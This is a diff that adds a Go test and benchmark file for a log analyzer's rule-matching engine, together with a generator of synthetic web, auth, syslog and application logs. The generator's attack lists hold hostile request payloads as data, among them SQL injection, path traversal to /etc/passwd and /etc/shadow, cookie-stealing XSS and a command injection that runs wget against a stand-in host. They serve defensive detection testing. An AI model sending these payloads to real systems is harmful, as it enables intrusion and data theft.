@@ -0,0 +1,237 @@
+package rules
+
+import (
+	"fmt"
+	"math/rand"
+	"strings"
+	"testing"
+	"time"
+
+	"log-analyzer/backend/internal/parser"
+)
+
+// configPath is the shipped config, whose rules and examples the engine is
+// checked against.
+const configPath = "../../../config/rules.yaml"
+
+func loadShippedRules(t testing.TB) []Rule {
+	t.Helper()
+	m := &Manager{configPath: configPath, stats: newStatsTracker(), suppressions: &suppressionList{}}
+	if err := m.LoadConfig(); err != nil {
+		t.Fatalf("load %s: %v", configPath, err)
+	}
+	return m.GetEnabledRules()
+}
+
+// matchNaive is the reference evaluation the engine has to agree with:
+// every rule in config order, no prefilter.
+func matchNaive(ruleList []Rule, logFile *LogFile, entry *parser.Entry) []Rule {
+	var matches []Rule
+	for i := range ruleList {
+		if logFile != nil && !ruleList[i].AppliesTo(*logFile) {
+			continue
+		}
+		if ruleList[i].Match(entry) {
+			matches = append(matches, ruleList[i])
+		}
+	}
+	return matches
+}
+
+func ruleNames(ruleList []Rule) []string {
+	names := make([]string, len(ruleList))
+	for i, rule := range ruleList {
+		names[i] = rule.Name
+	}
+	return names
+}
+
+// TestEngineMatchesNaive checks that the prefiltered engine returns exactly
+// the rules, in the same order, that evaluating every rule would, over the
+// examples embedded in the shipped config and a generated corpus, with and
+// without source scoping.
+func TestEngineMatchesNaive(t *testing.T) {
+	ruleList := loadShippedRules(t)
+	engine := newMatchEngine(ruleList)
+	if engine.prefiltered == 0 {
+		t.Fatal("no rule of the shipped config is prefiltered")
+	}
+
+	var corpus []string
+	for _, rule := range ruleList {
+		corpus = append(corpus, rule.ShouldMatch...)
+		corpus = append(corpus, rule.ShouldNotMatch...)
+	}
+	if len(corpus) == 0 {
+		t.Fatal("the shipped config has no rule examples")
+	}
+	corpus = append(corpus, generateCorpus(1000, 1)...)
+
+	sources := []*LogFile{
+		nil,
+		{Path: "/var/log/nginx/access.log", Type: "nginx"},
+		{Path: "/var/log/auth.log", Type: "auth"},
+		{Path: "/tmp/adhoc.log"},
+	}
+	matched := 0
+	for _, line := range corpus {
+		entry := parser.NewEntry(line)
+		for _, source := range sources {
+			want := ruleNames(matchNaive(ruleList, source, entry))
+			got := ruleNames(engine.match(source, entry, nil))
+			if strings.Join(got, "\x00") != strings.Join(want, "\x00") {
+				t.Errorf("source %v, line %q:\n engine %q\n naive  %q", source, line, got, want)
+			}
+			matched += len(got)
+		}
+	}
+	if matched == 0 {
+		t.Fatal("no line matched any rule")
+	}
+}
+
+func BenchmarkMatchEngine(b *testing.B) {
+	engine := newMatchEngine(loadShippedRules(b))
+	entries := benchEntries()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		engine.match(nil, entries[i%len(entries)], nil)
+	}
+}
+
+func BenchmarkMatchNaive(b *testing.B) {
+	ruleList := loadShippedRules(b)
+	entries := benchEntries()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		matchNaive(ruleList, nil, entries[i%len(entries)])
+	}
+}
+
+func benchEntries() []*parser.Entry {
+	corpus := generateCorpus(5000, 1)
+	entries := make([]*parser.Entry, len(corpus))
+	for i, line := range corpus {
+		entries[i] = parser.NewEntry(line)
+	}
+	return entries
+}
+
+// generateCorpus produces a synthetic but realistic mix of web access, auth,
+// syslog and application lines in which roughly one line in twenty is an
+// attack or incident. The same seed always gives the same corpus.
+func generateCorpus(lines int, seed int64) []string {
+	rng := rand.New(rand.NewSource(seed))
+	pick := func(values []string) string { return values[rng.Intn(len(values))] }
+	ip := func() string {
+		return fmt.Sprintf("%d.%d.%d.%d", rng.Intn(223)+1, rng.Intn(256), rng.Intn(256), rng.Intn(254)+1)
+	}
+	stamp := time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC)
+
+	corpus := make([]string, 0, lines)
+	for i := 0; i < lines; i++ {
+		stamp = stamp.Add(time.Duration(rng.Intn(2000)) * time.Millisecond)
+		syslog := stamp.Format(time.Stamp) + " web01 "
+		attack := rng.Intn(20) == 0
+		var line string
+		switch kind := rng.Intn(10); {
+		case kind < 5:
+			path := pick(benchPaths)
+			if attack {
+				path = pick(benchAttackPaths)
+			}
+			agent := pick(benchAgents)
+			if attack && rng.Intn(3) == 0 {
+				agent = pick(benchAttackAgents)
+			}
+			line = fmt.Sprintf(`%s - - [%s] "%s %s HTTP/1.1" %s %d "-" "%s"`,
+				ip(), stamp.Format("02/Jan/2006:15:04:05 -0700"), pick([]string{"GET", "GET", "GET", "POST"}),
+				path, pick([]string{"200", "200", "200", "304", "404"}), rng.Intn(50000), agent)
+		case kind < 8:
+			message := pick(benchAuth)
+			if attack {
+				message = pick(benchAuthAttacks)
+			}
+			line = syslog + fmt.Sprintf(message, pick(benchUsers), ip(), rng.Intn(60000)+1024)
+		case kind < 9:
+			message := pick(benchSyslog)
+			if attack {
+				message = pick(benchSyslogAttacks)
+			}
+			line = syslog + message
+		default:
+			level := pick([]string{"INFO", "INFO", "INFO", "DEBUG", "WARN"})
+			message := pick(benchApp)
+			if attack {
+				level, message = "ERROR", pick(benchAppErrors)
+			}
+			line = fmt.Sprintf("%s %s [%s] %s", stamp.Format("2006-01-02T15:04:05.000Z"), level, pick([]string{"api", "worker", "billing"}), message)
+		}
+		corpus = append(corpus, strings.TrimSpace(line))
+	}
+	return corpus
+}
+
+var (
+	benchPaths = []string{
+		"/", "/index.html", "/api/v1/orders?page=2", "/static/js/app.4f3c1e.js", "/static/css/main.css",
+		"/images/logo.png", "/api/v1/users/me", "/login", "/search?q=kablosuz+kulaklik", "/favicon.ico",
+		"/api/v1/cart", "/products/1842", "/health",
+	}
+	benchAttackPaths = []string{
+		"/search?q=1%27+UNION+SELECT+username,password+FROM+users--",
+		"/index.php?page=../../../../etc/passwd",
+		"/comment?text=<script>alert(document.cookie)</script>",
+		"/.env", "/.git/config", "/shell.php?cmd=id",
+		"/api/fetch?url=file:///etc/shadow",
+		"/index.php?file=php://filter/resource=index.php",
+		"/cgi-bin/test.cgi?x=$(wget+http://203.0.113.7/x.sh)",
+	}
+	benchAgents = []string{
+		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36",
+		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
+		"Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
+		"Googlebot/2.1 (+http://www.google.com/bot.html)",
+	}
+	benchAttackAgents = []string{"sqlmap/1.7.2#stable", "Nikto/2.5.0", "masscan/1.3"}
+	benchUsers        = []string{"deploy", "ubuntu", "ayse", "mehmet", "backup", "git"}
+	benchAuth         = []string{
+		"sshd[%[3]d]: Accepted publickey for %[1]s from %[2]s port %[3]d ssh2",
+		"sshd[%[3]d]: pam_unix(sshd:session): session opened for user %[1]s(uid=1000) by (uid=0)",
+		"sshd[%[3]d]: Received disconnect from %[2]s port %[3]d:11: disconnected by user",
+		"CRON[%[3]d]: pam_unix(cron:session): session closed for user %[1]s",
+		"systemd-logind[%[3]d]: New session 42 of user %[1]s.",
+	}
+	benchAuthAttacks = []string{
+		"sshd[%[3]d]: Failed password for invalid user %[1]s from %[2]s port %[3]d ssh2",
+		"sshd[%[3]d]: Failed password for root from %[2]s port %[3]d ssh2",
+		"sshd[%[3]d]: Invalid user admin from %[2]s port %[3]d",
+		"sudo[%[3]d]: %[1]s : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/%[1]s ; USER=root ; COMMAND=/bin/bash",
+		"sshd[%[3]d]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%[2]s user=%[1]s",
+	}
+	benchSyslog = []string{
+		"systemd[1]: Started Daily apt download activities.",
+		"kernel: [123456.789012] e1000e: eth0 NIC Link is Up 1000 Mbps Full Duplex",
+		"systemd[1]: logrotate.service: Succeeded.",
+		"dhclient[812]: DHCPACK of 10.0.0.12 from 10.0.0.1",
+		"nginx[1020]: reloaded configuration",
+	}
+	benchSyslogAttacks = []string{
+		"kernel: [UFW BLOCK] IN=eth0 OUT= SRC=198.51.100.23 DST=10.0.0.12 PROTO=TCP DPT=22",
+		"kernel: possible SYN flooding on port 443. Sending cookies.",
+		"root: history -c executed by deploy",
+		"xmrig[4242]: mining pool connected",
+	}
+	benchApp = []string{
+		"order 88213 created in 42ms",
+		"GET /api/v1/cart completed status=200 duration=12ms",
+		"cache hit ratio 0.94",
+		"payment provider responded in 310ms",
+		"worker heartbeat ok",
+	}
+	benchAppErrors = []string{
+		"fatal: database connection pool exhausted",
+		"error processing job 7731: context deadline exceeded",
+		"jwt invalid signature for session 1f2e",
+	}
+)